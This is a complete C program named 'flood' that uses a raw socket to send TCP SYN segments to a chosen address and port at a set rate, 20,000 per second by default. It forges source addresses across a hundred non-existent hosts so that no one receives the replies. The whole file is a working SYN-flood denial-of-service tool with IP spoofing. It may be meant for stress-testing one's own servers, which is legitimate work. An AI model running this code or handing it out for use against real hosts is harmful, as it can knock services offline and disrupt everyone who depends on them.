/* SPDX-License-Identifier: ISC */
/* flood ADDRESS PORT COUNT [PER_SECOND [FIRST]]: sends SYN segments (RFC 9293)
 * from a hundred addresses that do not exist, 10.99.0.100 or FIRST and on:
 * nobody takes the answers.  It prints how many it has sent in a second. */
#define _GNU_SOURCE 1
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 10 };

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (double)t.tv_sec + (double)t.tv_nsec * 1e-9;
}

static uint16_t checksum(const void *data, size_t size, uint32_t sum)
{
    const uint8_t *p = data;
    for (size_t i = 0; i + 1 < size; i += 2)
        sum += (uint32_t)(p[i] << 8 | p[i + 1]);
    while (sum >> 16 != 0)
        sum = (sum & 0xffff) + (sum >> 16);
    return htons((uint16_t)~sum);
}

int main(int argc, char **argv)
{
    struct sockaddr_in to = {.sin_family = AF_INET};
    int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
    double rate = argc > 4 ? atof(argv[4]) : 20000, begin = now(), left;
    int count = argc > 3 ? atoi(argv[3]) : 0;
    const char *first = argc > 5 ? argv[5] : "10.99.0.100";
    struct in_addr from;
    if (argc < 4 || argc > 6 || rate <= 0 || s < 0 ||
        inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 ||
        inet_pton(AF_INET, first, &from) != 1) {
        perror("flood");
        return 2;
    }
    for (int i = 0; i < count; i++) {
        struct {
            struct iphdr ip;
            struct tcphdr tcp;
        } p = {.ip = {.version = 4,
                      .ihl = 5,
                      .ttl = 64,
                      .protocol = IPPROTO_TCP,
                      .tot_len = htons(sizeof(p)),
                      .saddr = htonl(ntohl(from.s_addr) + (uint32_t)(i % 100)),
                      .daddr = to.sin_addr.s_addr},
               .tcp = {.source = htons((uint16_t)(1024 + i)),
                       .dest = htons((uint16_t)atoi(argv[2])),
                       .seq = htonl((uint32_t)i),
                       .doff = 5,
                       .syn = 1,
                       .window = htons(1024)}};
        const uint8_t *ends = (const uint8_t *)&p.ip.saddr;
        uint32_t sum = IPPROTO_TCP + sizeof(p.tcp);
        for (int k = 0; k < 8; k += 2)
            sum += (uint32_t)(ends[k] << 8 | ends[k + 1]);
        p.tcp.check = checksum(&p.tcp, sizeof(p.tcp), sum);
        if (sendto(s, &p, sizeof(p), 0, (void *)&to, sizeof(to)) < 0)
            usleep(100);
        left = begin + i / rate - now();
        if (i % BATCH == BATCH - 1 && left > 0)
            usleep((useconds_t)(left * 1e6));
    }
    printf("%.0f SYN/s\n", count / (now() - begin));
    return 0;
}
